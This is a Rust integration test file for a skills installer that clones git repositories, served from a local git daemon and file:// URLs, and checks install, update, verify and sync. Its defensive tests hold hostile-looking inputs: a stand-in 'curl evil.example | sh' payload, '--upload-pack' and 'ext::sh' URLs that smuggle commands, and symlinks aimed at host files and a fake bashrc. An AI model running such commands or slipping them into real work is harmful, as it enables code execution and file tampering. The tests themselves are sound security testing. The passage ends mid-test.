//! `install --git`, `outdated`, `update`, `verify` and `sync` against real git
//! servers the tests start: a bare repository served by `git daemon` on
//! 127.0.0.1, and the same over `file://`, shaped like anthropics/skills
//! (`skills/<name>/` with bundled files, a `template/` whose name differs
//! from its folder, `.claude-plugin/marketplace.json`), plus a Tool skill with
//! Rust source and one with a shipped binary.

use crate::common;

use std::collections::BTreeSet;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output};
use std::time::{Duration, Instant};

use common::*;

const EXPECTED: [&str; 5] = ["docx", "echo-binary", "echo-skill", "pdf", "template-skill"];

fn git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .current_dir(dir)
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(args)
        .output()
        .expect("run git");
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

fn prompt_skill(dir: &Path, name: &str, body: &str) {
    write(
        &dir.join("SKILL.md"),
        &format!("---\nname: {name}\ndescription: The {name} skill.\n---\n{body}\n"),
    );
}

/// A working repository shaped like anthropics/skills, with one commit.
fn skills_repo(parent: &Path) -> PathBuf {
    let work = parent.join("work");
    std::fs::create_dir_all(&work).unwrap();
    git(&work, &["init", "-q", "-b", "main"]);
    prompt_skill(&work.join("skills/docx"), "docx", "Write Word files.");
    write(
        &work.join("skills/docx/scripts/convert.sh"),
        "#!/bin/sh\necho converted\n",
    );
    std::fs::set_permissions(
        work.join("skills/docx/scripts/convert.sh"),
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    write(&work.join("skills/docx/references/ooxml.md"), "# OOXML\n");
    prompt_skill(&work.join("skills/pdf"), "pdf", "Read PDFs.");
    prompt_skill(&work.join("template"), "template-skill", "A template.");
    // A Tool skill with Rust source (its Cargo.lock shipped).
    copy_dir(&fixture("echo-skill"), &work.join("skills/echo-skill"));
    // A Tool skill with a shipped binary.
    let bin = work.join("skills/echo-binary");
    write(
        &bin.join("SKILL.md"),
        "---\nname: echo-binary\ndescription: Echo, shipped built.\nmetadata:\n  skill-type: tool\n---\nEcho.\n",
    );
    std::fs::write(bin.join("skill.wasm"), component("echo-skill")).unwrap();
    write(
        &work.join(".claude-plugin/marketplace.json"),
        r#"{"name": "test-skills", "plugins": [
            {"name": "document-skills", "source": "./", "skills": ["./skills/docx", "./skills/pdf"]}
        ]}"#,
    );
    write(&work.join("README.md"), "# test skills\n");
    git(&work, &["add", "-A"]);
    git(&work, &["commit", "-q", "-m", "one"]);
    git(&work, &["tag", "-a", "v1.0", "-m", "v1.0"]);
    work
}

/// `bare/skills.git`, a bare clone of `work`, and a way to push to it.
fn bare_clone(work: &Path, parent: &Path) -> PathBuf {
    let served = parent.join("served");
    std::fs::create_dir_all(&served).unwrap();
    let bare = served.join("skills.git");
    git(
        parent,
        &[
            "clone",
            "-q",
            "--bare",
            work.to_str().unwrap(),
            bare.to_str().unwrap(),
        ],
    );
    bare
}

fn push(work: &Path, bare: &Path) {
    git(work, &["push", "-q", bare.to_str().unwrap(), "--all"]);
    git(work, &["push", "-q", bare.to_str().unwrap(), "--tags"]);
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

/// `git daemon` serving a folder of bare repositories; killed on drop.
struct Daemon {
    child: Child,
    port: u16,
}

impl Daemon {
    fn serve(base: &Path) -> Daemon {
        let port = free_port();
        // `git-daemon` itself: `git daemon` would leave it running when killed.
        let exec_path = git(Path::new("/"), &["--exec-path"]);
        let child = Command::new(Path::new(&exec_path).join("git-daemon"))
            .arg("--export-all")
            .arg(format!("--base-path={}", base.display()))
            .arg(format!("--port={port}"))
            .arg("--listen=127.0.0.1")
            .arg("--reuseaddr")
            .arg(base)
            // Quiet about the readiness probe's connections.
            .stderr(std::process::Stdio::null())
            .spawn()
            .expect("start git daemon");
        let deadline = Instant::now() + Duration::from_secs(10);
        while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(Instant::now() < deadline, "git daemon did not start");
            std::thread::sleep(Duration::from_millis(50));
        }
        Daemon { child, port }
    }

    fn url(&self, repo: &str) -> String {
        format!("git://127.0.0.1:{}/{repo}", self.port)
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn file_url(path: &Path) -> String {
    format!("file://{}", path.display())
}

/// `boternity <args> --store <store>`, building into the shared test target.
fn cli(store: &Path, args: &[&str]) -> Output {
    let mut cmd = boternity();
    cmd.args(args).arg("--store").arg(store);
    let builds = matches!(args.first(), Some(&"install" | &"update" | &"sync"));
    if builds {
        cmd.arg("--target-dir").arg(skill_target_dir());
    }
    cmd.output().unwrap()
}

fn ok(out: Output) -> Output {
    assert!(
        out.status.success(),
        "failed:\nstdout: {}\nstderr: {}",
        stdout(&out),
        stderr(&out)
    );
    out
}

fn json_lines(out: &Output) -> Vec<serde_json::Value> {
    stdout(out).lines().map(json_line).collect()
}

fn names(lines: &[serde_json::Value]) -> BTreeSet<String> {
    lines
        .iter()
        .map(|l| l["name"].as_str().unwrap().to_string())
        .collect()
}

fn installed(store: &Path) -> Vec<serde_json::Value> {
    json_lines(&ok(cli(store, &["list", "--message-format", "json"])))
}

/// The lock file `text` with the sha256 it records for skill `key`'s
/// `SKILL.md` replaced by zeros.
fn with_wrong_skill_md_hash(text: &str, key: &str) -> String {
    let section = format!("[skills.{key}.files]");
    let line = text
        .lines()
        .skip_while(|l| *l != section)
        .find(|l| l.starts_with("\"SKILL.md\""))
        .unwrap()
        .to_string();
    text.replace(&line, &format!("\"SKILL.md\" = \"{}\"", "0".repeat(64)))
}

/// Runs a failing command and checks its message and that the store is
/// byte for byte what it was.
fn refused(store: &Path, args: &[&str], expected: &[&str]) {
    let before = snapshot(store);
    let out = cli(store, args);
    let err = stderr(&out);
    assert!(!out.status.success(), "{args:?} should fail: {err}");
    for e in expected {
        assert!(err.contains(e), "{args:?}: expected `{e}` in:\n{err}");
    }
    assert_eq!(snapshot(store), before, "{args:?} changed the store");
}

#[test]
fn discovery_lists_exactly_the_skills_and_installs_by_name_and_all() {
    let tmp = tempfile::tempdir().unwrap();
    let work = skills_repo(tmp.path());
    let url = file_url(&work);
    let store = tmp.path().join("store");

    let listed = json_lines(&ok(cli(
        &store,
        &[
            "install",
            "--git",
            &url,
            "--list",
            "--message-format",
            "json",
        ],
    )));
    assert_eq!(
        names(&listed),
        EXPECTED.iter().map(|s| s.to_string()).collect()
    );
    let template = listed
        .iter()
        .find(|l| l["name"] == "template-skill")
        .unwrap();
    assert_eq!(template["path"], "template");
    assert!(!store.exists(), "--list installs nothing");

    // Several skills and no choice: an error listing them.
    refused(
        &store,
        &["install", "--git", &url],
        &["holds 5 skills", "echo-binary", "skills/pdf"],
    );

    ok(cli(&store, &["install", "--git", &url, "docx"]));
    let rows = installed(&store);
    assert_eq!(names(&rows), BTreeSet::from(["docx".to_string()]));
    let origin = &rows[0]["origin"];
    assert_eq!(origin["kind"], "git");
    assert_eq!(origin["url"], url.as_str());
    assert_eq!(origin["path"], "skills/docx");
    assert_eq!(
        origin["commit"],
        git(&work, &["rev-parse", "HEAD"]).as_str()
    );
    let script = store.join("skills/docx/scripts/convert.sh");
    let mode =
        std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&script).unwrap().permissions());
    assert!(mode & 0o111 != 0, "the script keeps its exec bit");
    let human = stdout(&ok(cli(&store, &["list"])));
    assert!(
        human.contains("git file://") && human.contains("skills/docx @ "),
        "{human}"
    );

    ok(cli(&store, &["install", "--git", &url, "--all"]));
    let rows = installed(&store);
    assert_eq!(
        names(&rows),
        EXPECTED.iter().map(|s| s.to_string()).collect()
    );
    let taken = |n: &str| {
        rows.iter().find(|r| r["name"] == n).unwrap()["path_taken"]
            .as_str()
            .unwrap()
            .to_string()
    };
    assert_eq!(taken("echo-skill"), "built");
    assert_eq!(taken("echo-binary"), "validated");
    assert_eq!(taken("pdf"), "prompt");
    let lock = std::fs::read_to_string(store.join("skills.lock")).unwrap();
    for name in EXPECTED {
        assert!(lock.contains(&format!("[skills.{name}]")), "{lock}");
    }
    assert!(!lock.contains("created_at"), "no timestamps: {lock}");
}

/// `precompile` on a folder and `install --git` on a commit of it find the
/// same skills: one discovery (`boternity_skills::skill::discover`).
#[test]
fn precompile_and_git_discovery_find_the_same_skills_in_one_repository() {
    let tmp = tempfile::tempdir().unwrap();
    let work = tmp.path().join("work");
    // Shaped like anthropics/skills: skills/<name>/, a template at the root,
    // a README and a spec folder, a marketplace listing some of the skills.
    prompt_skill(&work.join("skills/pdf"), "pdf", "Read PDFs.");
    prompt_skill(&work.join("skills/docx"), "docx", "Write Word files.");
    // A SKILL.md among a skill's assets is one of its files, not a skill.
    prompt_skill(
        &work.join("skills/docx/assets/template"),
        "docx-template",
        "A template the docx skill copies.",
    );
    prompt_skill(&work.join("template"), "template-skill", "A template.");
    write(&work.join("README.md"), "# skills\n");
    write(&work.join("spec/agent-skills-spec.md"), "# spec\n");
    write(
        &work.join(".claude-plugin/marketplace.json"),
        r#"{"plugins": [{"name": "docs", "source": "./", "skills": ["./skills/docx", "./skills/pdf"]}]}"#,
    );
    // Beside skills/ (git discovery used to look no further once skills/
    // held some), and in an agent tool's hidden folder (precompile used to
    // skip every hidden folder).
    prompt_skill(&work.join("document-skills/xlsx"), "xlsx", "Spreadsheets.");
    prompt_skill(&work.join(".claude/skills/review"), "review", "Review.");
    // Never skills: build output, installed packages, other hidden folders.
    prompt_skill(&work.join("target/package/built"), "built", "Build output.");
    prompt_skill(&work.join("node_modules/pkg"), "pkg", "A package.");
    prompt_skill(&work.join(".github/helper"), "helper", "CI's own.");
    git(&work, &["init", "-q", "-b", "main"]);
    git(&work, &["add", "-A"]);
    git(&work, &["commit", "-q", "-m", "one"]);
    let expected: BTreeSet<String> = [
        ".claude/skills/review",
        "document-skills/xlsx",
        "skills/docx",
        "skills/pdf",
        "template",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();

    let walked: BTreeSet<String> = boternity_skills::registry::precompile::discover(&work)
        .unwrap()
        .iter()
        .map(|d| {
            d.strip_prefix(&work)
                .unwrap()
                .to_string_lossy()
                .into_owned()
        })
        .collect();
    assert_eq!(walked, expected, "precompile's walk");

    let store = tmp.path().join("store");
    let url = file_url(&work);
    let listed = json_lines(&ok(cli(
        &store,
        &[
            "install",
            "--git",
            &url,
            "--list",
            "--message-format",
            "json",
        ],
    )));
    let paths: BTreeSet<String> = listed
        .iter()
        .map(|l| l["path"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(paths, expected, "git discovery");
}

#[test]
fn a_tag_a_branch_holding_a_slash_and_a_full_commit_are_installed_from_git_daemon() {
    let tmp = tempfile::tempdir().unwrap();
    let work = skills_repo(tmp.path());
    let first = git(&work, &["rev-parse", "HEAD"]);
    git(&work, &["checkout", "-q", "-b", "feature/new-pdf"]);
    prompt_skill(&work.join("skills/pdf"), "pdf", "Read PDFs, better.");
    git(&work, &["commit", "-q", "-am", "pdf on a branch"]);
    let branch = git(&work, &["rev-parse", "HEAD"]);
    git(&work, &["checkout", "-q", "main"]);
    let bare = bare_clone(&work, tmp.path());
    push(&work, &bare);
    let daemon = Daemon::serve(bare.parent().unwrap());
    let url = daemon.url("skills.git");
    let store = tmp.path().join("store");

    ok(cli(
        &store,
        &["install", "--git", &url, "--tag", "v1.0", "docx"],
    ));
    ok(cli(
        &store,
        &[
            "install",
            "--git",
            &url,
            "--branch",
            "feature/new-pdf",
            "pdf",
        ],
    ));
    ok(cli(
        &store,
        &[
            "install", "--git", &url, "--rev", &first, "--path", "template",
        ],
    ));
    let rows = installed(&store);
    let origin = |n: &str| rows.iter().find(|r| r["name"] == n).unwrap()["origin"].clone();
    assert_eq!(origin("docx")["requested"], "refs/tags/v1.0");
    assert_eq!(origin("docx")["commit"], first.as_str());
    assert_eq!(origin("pdf")["requested"], "refs/heads/feature/new-pdf");
    assert_eq!(origin("pdf")["commit"], branch.as_str());
    assert_eq!(origin("template-skill")["requested"], first.as_str());
    assert_eq!(origin("template-skill")["path"], "template");
    let pdf = std::fs::read_to_string(store.join("skills/pdf/SKILL.md")).unwrap();
    assert!(pdf.contains("better"), "{pdf}");
}

#[test]
fn a_new_commit_is_outdated_update_moves_to_it_and_a_rev_install_stays() {
    let tmp = tempfile::tempdir().unwrap();
    let work = skills_repo(tmp.path());
    let first = git(&work, &["rev-parse", "HEAD"]);
    let bare = bare_clone(&work, tmp.path());
    let daemon = Daemon::serve(bare.parent().unwrap());
    let url = daemon.url("skills.git");
    let store = tmp.path().join("store");
    ok(cli(&store, &["install", "--git", &url, "docx"]));
    ok(cli(
        &store,
        &["install", "--git", &url, "--rev", &first, "pdf"],
    ));

    prompt_skill(
        &work.join("skills/docx"),
        "docx",
        "Write Word files, version two.",
    );
    prompt_skill(&work.join("skills/pdf"), "pdf", "Read PDFs, version two.");
    git(&work, &["commit", "-q", "-am", "two"]);
    let second = git(&work, &["rev-parse", "HEAD"]);
    push(&work, &bare);

    let lines = json_lines(&ok(cli(&store, &["outdated", "--message-format", "json"])));
    let line = |n: &str| lines.iter().find(|l| l["name"] == n).unwrap().clone();
    assert_eq!(line("docx")["status"], "outdated");
    assert_eq!(line("docx")["installed"], first.as_str());
    assert_eq!(line("docx")["latest"], second.as_str());
    assert_eq!(line("pdf")["status"], "pinned");

    let out = ok(cli(&store, &["update", "--all"]));
    let err = stderr(&out);
    assert!(err.contains("`pdf` is pinned"), "{err}");
    let docx = std::fs::read_to_string(store.join("skills/docx/SKILL.md")).unwrap();
    assert!(docx.contains("version two"), "{docx}");
    let pdf = std::fs::read_to_string(store.join("skills/pdf/SKILL.md")).unwrap();
    assert!(!pdf.contains("version two"), "{pdf}");
    let lines = json_lines(&ok(cli(&store, &["outdated", "--message-format", "json"])));
    assert!(
        lines
            .iter()
            .any(|l| l["name"] == "docx" && l["status"] == "up-to-date")
    );
    let lock = std::fs::read_to_string(store.join("skills.lock")).unwrap();
    assert!(lock.contains(&second) && lock.contains(&first), "{lock}");
}

#[test]
fn sync_reproduces_every_file_byte_for_byte_from_the_cache_and_refuses_a_changed_hash() {
    let tmp = tempfile::tempdir().unwrap();
    let work = skills_repo(tmp.path());
    let bare = bare_clone(&work, tmp.path());
    let daemon = Daemon::serve(bare.parent().unwrap());
    let url = daemon.url("skills.git");
    let a = tmp.path().join("a");
    ok(cli(&a, &["install", "--git", &url, "--all"]));
    let lock = a.join("skills.lock");

    // The server is gone: every commit is cached, so nothing needs it.
    drop(daemon);
    let b = tmp.path().join("b");
    ok(cli(&b, &["sync", "--lock", lock.to_str().unwrap()]));
    let files = |store: &Path| -> Vec<(PathBuf, Vec<u8>)> {
        snapshot(&store.join("skills"))
            .into_iter()
            .filter(|(p, _)| !p.ends_with(".boternity-provenance.json"))
            .collect()
    };
    assert_eq!(files(&a), files(&b));
    assert_eq!(
        std::fs::read(&lock).unwrap(),
        std::fs::read(b.join("skills.lock")).unwrap()
    );
    // Again: all already as locked.
    let out = ok(cli(&b, &["sync", "--lock", lock.to_str().unwrap()]));
    assert!(
        stderr(&out).contains("0 installed, 5 already as locked"),
        "{}",
        stderr(&out)
    );
    // --offline reinstalls from the cache too.
    ok(cli(&b, &["install", "--git", &url, "pdf", "--offline"]));

    // A hash that differs: nothing is installed.
    let text = std::fs::read_to_string(&lock).unwrap();
    let tampered = tmp.path().join("tampered.lock");
    std::fs::write(&tampered, with_wrong_skill_md_hash(&text, "docx")).unwrap();
    let c = tmp.path().join("c");
    refused(
        &c,
        &["sync", "--lock", tampered.to_str().unwrap()],
        &["`docx` does not match the lock", "SKILL.md"],
    );
}

#[test]
fn verify_names_each_changed_missing_and_added_file() {
    let tmp = tempfile::tempdir().unwrap();
    let work = skills_repo(tmp.path());
    let store = tmp.path().join("store");
    ok(cli(
        &store,
        &["install", "--git", &file_url(&work), "docx", "pdf"],
    ));
    ok(cli(&store, &["verify"]));
    let docx = store.join("skills/docx");
    std::fs::write(docx.join("references/ooxml.md"), "edited\n").unwrap();
    std::fs::remove_file(docx.join("scripts/convert.sh")).unwrap();
    std::fs::write(docx.join("extra.txt"), "new\n").unwrap();
    let out = cli(&store, &["verify"]);
    assert_eq!(out.status.code(), Some(1));
    let err = stderr(&out);
    for line in [
        "changed: references/ooxml.md",
        "missing: scripts/convert.sh",
        "added:   extra.txt",
        "Verified `pdf`",
    ] {
        assert!(err.contains(line), "`{line}` in:\n{err}");
    }
    let out = cli(&store, &["verify", "docx", "--message-format", "json"]);
    let row = &json_lines(&out)[0];
    assert_eq!(row["ok"], false);
    assert_eq!(row["changes"].as_array().unwrap().len(), 3);
}

#[test]
fn every_bad_input_is_refused_and_the_store_is_unchanged() {
    let tmp = tempfile::tempdir().unwrap();
    let work = skills_repo(tmp.path());
    let url = file_url(&work);
    let bare = bare_clone(&work, tmp.path());
    let daemon = Daemon::serve(bare.parent().unwrap());
    let store = tmp.path().join("store");
    // A store holding a skill from a local folder, so "unchanged" means something.
    let local = tmp.path().join("local/docx");
    prompt_skill(&local, "docx", "A local docx.");
    ok(cli(&store, &["install", local.to_str().unwrap()]));

    let dead = format!("git://127.0.0.1:{}/skills.git", free_port());
    refused(
        &store,
        &["install", "--git", &dead, "--all"],
        &["ls-remote of", "127.0.0.1"],
    );
    refused(
        &store,
        &["install", "--git", &daemon.url("nope.git"), "--all"],
        &["nope.git"],
    );
    refused(
        &store,
        &[
            "install",
            "--git",
            &daemon.url("skills.git"),
            "--branch",
            "mian",
            "pdf",
        ],
        &["no branch `mian`", "main (branch)"],
    );
    refused(
        &store,
        &["install", "--git", &url, "--tag", "v1.1", "pdf"],
        &["no tag `v1.1`", "v1.0 (tag)"],
    );
    refused(
        &store,
        &["install", "--git", &url, "--rev", &"0".repeat(40), "pdf"],
        &[&format!("commit {} is not in", "0".repeat(40))],
    );
    refused(
        &store,
        &["install", "--git", &url, "--path", "../..", "--all"],
        &["leads outside"],
    );
    refused(
        &store,
        &["install", "--git", &url, "--path", "nowhere", "--all"],
        &["does not exist"],
    );
    refused(
        &store,
        &["install", "--git", &url, "nosuch"],
        &["no skill named `nosuch`", "docx"],
    );

    // Collides with the local docx: refused unless --force.
    refused(
        &store,
        &["install", "--git", &url, "docx"],
        &["`docx` is already installed from the folder", "--force"],
    );

    // Hostile URLs: refused before git runs; nothing is executed.
    let marker = tmp.path().join("pwned");
    let upload = format!("--upload-pack=touch {}", marker.display());
    refused(
        &store,
        &["install", &format!("--git={upload}"), "--all"],
        &["starts with `-`"],
    );
    refused(
        &store,
        &["install", "--git", &upload, "--all"],
        &["starts with `-`"],
    );
    let ext = format!("ext::sh -c touch% {}", marker.display());
    refused(
        &store,
        &["install", "--git", &ext, "--all"],
        &["`ext::` runs a remote helper"],
    );
    refused(
        &store,
        &["install", "--git", "ftp://example.com/r", "--all"],
        &["`ftp` transport"],
    );
    assert!(!marker.exists(), "a hostile URL ran a command");

    // Repositories with something wrong in them.
    let bad = |name: &str, setup: &dyn Fn(&Path)| -> String {
        let dir = tmp.path().join(name);
        std::fs::create_dir_all(&dir).unwrap();
        git(&dir, &["init", "-q", "-b", "main"]);
        setup(&dir);
        git(&dir, &["add", "-A"]);
        git(&dir, &["commit", "-q", "-m", "x", "--allow-empty"]);
        file_url(&dir)
    };
    let empty = bad("no-skill", &|d| write(&d.join("README.md"), "nothing\n"));
    refused(
        &store,
        &["install", "--git", &empty, "--all"],
        &["no skill (a folder holding SKILL.md)"],
    );
    let link = bad("symlink", &|d| {
        write(&d.join("secret.txt"), "secret\n");
        prompt_skill(&d.join("skills/leaky"), "leaky", "Leaks.");
        std::os::unix::fs::symlink("../../secret.txt", d.join("skills/leaky/secret")).unwrap();
    });
    refused(
        &store,
        &["install", "--git", &link, "leaky"],
        &["points outside the skill folder"],
    );
    // An absolute link is refused with the tree, before anything is written.
    let absolute = bad("absolute", &|d| {
        prompt_skill(&d.join("skills/leaky"), "leaky", "Leaks.");
        std::os::unix::fs::symlink("/etc/hostname", d.join("skills/leaky/host")).unwrap();
    });
    refused(
        &store,
        &["install", "--git", &absolute, "leaky"],
        &[
            "the symlink `skills/leaky/host`",
            "`/etc/hostname` is absolute",
        ],
    );
    let lfs = bad("lfs", &|d| {
        write(
            &d.join("skills/big/SKILL.md"),
            "---\nname: big\ndescription: LFS.\nmetadata:\n  skill-type: tool\n---\nx\n",
        );
        write(
            &d.join("skills/big/skill.wasm"),
            "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n",
        );
    });
    refused(
        &store,
        &["install", "--git", &lfs, "big"],
        &["skills/big/skill.wasm is a Git LFS pointer"],
    );

    // --force replaces the local docx with the repository's.
    ok(cli(&store, &["install", "--git", &url, "docx", "--force"]));
    let docx = std::fs::read_to_string(store.join("skills/docx/SKILL.md")).unwrap();
    assert!(docx.contains("Write Word files."), "{docx}");
}

#[test]
fn a_rust_skill_without_cargo_lock_keeps_the_resolved_one_and_sync_builds_with_it() {
    let tmp = tempfile::tempdir().unwrap();
    let work = tmp.path().join("nolock");
    copy_fixture("echo-skill", &work, "echo-skill");
    std::fs::remove_file(work.join("echo-skill/Cargo.lock")).unwrap();
    git(&work, &["init", "-q", "-b", "main"]);
    git(&work, &["add", "-A"]);
    git(&work, &["commit", "-q", "-m", "no lock"]);
    let a = tmp.path().join("a");
    let out = ok(cli(&a, &["install", "--git", &file_url(&work)]));
    assert!(
        stderr(&out).contains("no Cargo.lock shipped"),
        "{}",
        stderr(&out)
    );
    let resolved = std::fs::read(a.join("skills/echo-skill/Cargo.lock")).unwrap();
    let lock = std::fs::read_to_string(a.join("skills.lock")).unwrap();
    assert!(
        lock.contains("cargo_lock = ") && lock.contains("\"Cargo.lock\" = "),
        "{lock}"
    );
    ok(cli(&a, &["verify"]));

    let b = tmp.path().join("b");
    ok(cli(
        &b,
        &["sync", "--lock", a.join("skills.lock").to_str().unwrap()],
    ));
    assert_eq!(
        std::fs::read(b.join("skills/echo-skill/Cargo.lock")).unwrap(),
        resolved
    );
    assert_eq!(
        std::fs::read(a.join("skills/echo-skill/skill.wasm")).unwrap(),
        std::fs::read(b.join("skills/echo-skill/skill.wasm")).unwrap()
    );
    assert_eq!(
        std::fs::read(a.join("skills.lock")).unwrap(),
        std::fs::read(b.join("skills.lock")).unwrap()
    );
}

// ---------------------------------------------------------------------------
// Hostile repositories and lock files: each is refused with an error naming
// the file and the rule, nothing outside is written or read, and the store
// is unchanged.

/// `git <args>` in `dir`, fed `input` on stdin.
fn git_in(dir: &Path, args: &[&str], input: &[u8]) -> String {
    use std::io::Write;
    let mut child = Command::new("git")
        .current_dir(dir)
        .args(["-c", "user.name=t", "-c", "user.email=t@example.com"])
        .args(args)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("run git");
    child.stdin.take().unwrap().write_all(input).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// An empty repository (no work tree files) whose objects the test builds
/// with plumbing.
fn plumbing_repo(parent: &Path, name: &str) -> PathBuf {
    let repo = parent.join(name);
    std::fs::create_dir_all(&repo).unwrap();
    git(&repo, &["init", "-q", "-b", "main"]);
    repo
}

fn blob(repo: &Path, bytes: &[u8]) -> String {
    git_in(repo, &["hash-object", "-w", "--stdin"], bytes)
}

/// A tree object of `(mode, oid, name)` entries; names are bytes.
fn mktree(repo: &Path, entries: &[(&str, &str, &[u8])]) -> String {
    let mut input = Vec::new();
    for (mode, oid, name) in entries {
        let kind = match *mode {
            "040000" => "tree",
            "160000" => "commit",
            _ => "blob",
        };
        input.extend_from_slice(format!("{mode} {kind} {oid}\t").as_bytes());
        input.extend_from_slice(name);
        input.push(0);
    }
    git_in(repo, &["mktree", "-z", "--missing"], &input)
}

/// Commits `tree` as `main`.
fn commit_main(repo: &Path, tree: &str) -> String {
    let commit = git(repo, &["commit-tree", tree, "-m", "hostile"]);
    git(repo, &["update-ref", "refs/heads/main", &commit]);
    commit
}

/// A valid prompt skill's folder (`skills/<name>/SKILL.md`) as tree objects;
/// returns the `skills` tree.
fn skills_tree(repo: &Path, name: &str) -> String {
    let md = blob(
        repo,
        format!("---\nname: {name}\ndescription: The {name} skill.\n---\nBody.\n").as_bytes(),
    );
    let folder = mktree(repo, &[("100644", &md, b"SKILL.md")]);
    mktree(repo, &[("040000", &folder, name.as_bytes())])
}

/// `boternity <args> --store <store>` with its own empty `TMPDIR` (where a
/// checkout is written) and extra environment.
fn cli_in(store: &Path, tmpdir: &Path, env: &[(&str, &str)], args: &[&str]) -> Output {
    std::fs::create_dir_all(tmpdir).unwrap();
    let mut cmd = boternity();
    cmd.args(args)
        .arg("--store")
        .arg(store)
        .env("TMPDIR", tmpdir)
        .envs(env.iter().copied());
    cmd.output().unwrap()
}

/// Everything below `dir`, links not followed: what a test compares to prove
/// nothing was written.
fn listing(dir: &Path) -> Vec<(PathBuf, String)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries {
            let e = e.unwrap();
            let meta = std::fs::symlink_metadata(e.path()).unwrap();
            let what = if meta.is_symlink() {
                format!("link {}", std::fs::read_link(e.path()).unwrap().display())
            } else if meta.is_dir() {
                stack.push(e.path());
                "dir".to_string()
            } else {
                use std::os::unix::fs::PermissionsExt;
                format!(
                    "file {:o} {}",
                    meta.permissions().mode(),
                    String::from_utf8_lossy(&std::fs::read(e.path()).unwrap())
                )
            };
            out.push((e.path(), what));
        }
    }
    out.sort();
    out
}

/// Runs `args` against a hostile repository and checks it is refused with
/// `expected` in the error, the store is unchanged and no checkout is left.
fn refused_hostile(
    tmp: &Path,
    store: &Path,
    args: &[&str],
    env: &[(&str, &str)],
    expected: &[&str],
) -> String {
    let before = snapshot(store);
    let tmpdir = tmp.join("tmpdir");
    let out = cli_in(store, &tmpdir, env, args);
    let mut text = format!("{}\n{}", stdout(&out), stderr(&out));
    // JSON messages: their errors as written, not escaped.
    for line in stdout(&out).lines() {
        if let Some(json) = maybe_json_line(line)
            && let Some(error) = json["error"].as_str()
        {
            text.push_str(&format!("\n{error}"));
        }
    }
    assert!(!out.status.success(), "{args:?} should fail:\n{text}");
    for e in expected {
        assert!(text.contains(e), "{args:?}: expected `{e}` in:\n{text}");
    }
    assert_eq!(snapshot(store), before, "{args:?} changed the store");
    assert_eq!(
        listing(&tmpdir),
        Vec::new(),
        "{args:?} left a checkout behind"
    );
    text
}

#[test]
fn a_checkout_never_writes_through_a_link_whose_name_differs_only_in_non_utf8_bytes() {
    let tmp = tempfile::tempdir().unwrap();
    // What a hostile repository aims at: a ~/.bashrc, and a file to create.
    let outside = tmp.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    let bashrc = outside.join("bashrc");
    std::fs::write(&bashrc, "# my shell\n").unwrap();
    let created = outside.join("created-by-the-repository");
    let before = listing(&outside);

    let repo = plumbing_repo(tmp.path(), "lossy");
    let payload = blob(&repo, b"curl evil.example | sh\n");
    let to_bashrc = blob(&repo, bashrc.to_str().unwrap().as_bytes());
    let to_created = blob(&repo, created.to_str().unwrap().as_bytes());
    let skills = skills_tree(&repo, "decoy");
    // `a\xff` and `a\xfe` are one name once decoded lossily: the link first,
    // then the file (written, and chmod'ed, through it).
    let root = mktree(
        &repo,
        &[
            ("120000", &to_bashrc, b"a\xff"),
            ("100755", &payload, b"a\xfe"),
            ("120000", &to_created, b"b\xff"),
            ("100644", &payload, b"b\xfe"),
            ("040000", &skills, b"skills"),
        ],
    );
    commit_main(&repo, &root);
    let url = file_url(&repo);
    let store = tmp.path().join("store");
    for args in [
        &["install", "--git", &url, "--list"][..],
        &[
            "install",
            "--git",
            &url,
            "--list",
            "--message-format",
            "json",
        ],
        &["install", "--git", &url, "--all"],
    ] {
        refused_hostile(
            tmp.path(),
            &store,
            args,
            &[],
            &["is unsafe", "the path `a\\xfe`", "not UTF-8"],
        );
        assert_eq!(
            listing(&outside),
            before,
            "{args:?} wrote outside the checkout"
        );
    }
    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# my shell\n");
    assert!(!created.exists());

    // The same names as one folder entry and one file entry, and a link that
    // is also a folder: git's own checks or boternity's refuse them; nothing
    // is written outside either way.
    let repo = plumbing_repo(tmp.path(), "colliding");
    let payload = blob(&repo, b"curl evil.example | sh\n");
    let to_outside = blob(&repo, outside.to_str().unwrap().as_bytes());
    let inner = mktree(&repo, &[("100755", &payload, b"bashrc")]);
    let skills = skills_tree(&repo, "decoy");
    let root = mktree(
        &repo,
        &[
            ("120000", &to_outside, b"a"),
            ("040000", &inner, b"a"),
            ("040000", &skills, b"skills"),
        ],
    );
    commit_main(&repo, &root);
    refused_hostile(
        tmp.path(),
        &store,
        &["install", "--git", &file_url(&repo), "--list"],
        &[],
        &[],
    );
    assert_eq!(listing(&outside), before);
    assert!(!store.exists());
}

#[test]
fn a_skill_md_linked_to_a_host_file_or_proc_environ_is_never_read() {
    let tmp = tempfile::tempdir().unwrap();
    let secret = "TOPSECRET-host-file-7f3a9c";
    let env_secret = "TOPSECRET-environ-51e0b2";
    let outside = tmp.path().join("outside");
